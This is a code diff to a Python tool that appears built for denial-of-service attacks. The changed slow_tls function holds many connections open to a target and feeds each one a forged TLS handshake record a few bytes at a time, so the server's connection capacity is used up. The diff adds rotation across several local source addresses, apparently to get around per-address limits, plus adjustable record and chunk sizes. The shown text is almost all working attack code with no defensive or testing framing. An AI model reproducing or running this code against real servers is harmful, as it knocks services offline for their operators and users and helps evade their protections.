@@ -51,8 +51,8 @@ class Pace:
 pace = Pace()
 
 
-def connect(host, port, timeout=10.0):
-    return socket.create_connection((host, port), timeout=timeout)
+def connect(host, port, timeout=10.0, own=""):
+    return socket.create_connection((host, port), timeout=timeout, source_address=(own, 0) if own else None)
 
 
 def say(text):
@@ -171,19 +171,24 @@ def junk(host, port, seconds, given):
 
 
 def slow_tls(host, port, amount, given):
-    """Handshakes that come byte by byte, a byte each `pause` seconds, until nobody takes any more of them."""
-    held = [connect(host, port) for _ in range(amount)]
-    record = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + os.urandom(501)
+    """Handshakes that come `step` bytes each `pause` seconds, until nobody takes any more of them; `size`: as large as
+    they say they become, `sources`: ADDRESS+N, from N addresses of this host in turns."""
+    first, _, count = given.get("sources", "+1").partition("+")
+    network, _, begin = first.rpartition(".")
+    owns = [f"{network}.{int(begin) + i}" if first else "" for i in range(int(count))]
+    size, step = int(given.get("size", 512)), int(given.get("step", 1))
+    record = struct.pack("!BHHBBH", 0x16, 0x0301, size, 1, 0, size - 4) + b"\x03\x03" + os.urandom(size - 6)
+    held = [connect(host, port, own=owns[number % len(owns)]) for number in range(amount)]
     say("began")
     sent = 0
-    for byte in record[:int(given.get("bytes", 40))]:
+    for at in range(0, min(int(given.get("bytes", 40)), len(record) - 1), step):
         for connection in held:
             pace.step()
             try:
-                connection.send(bytes([byte]))
+                connection.send(record[at:at + step])
             except OSError:
                 pass
-        sent += 1
+        sent += step
         time.sleep(float(given.get("pause", 0.1)))
         if not any(is_open(connection) for connection in held):
             break
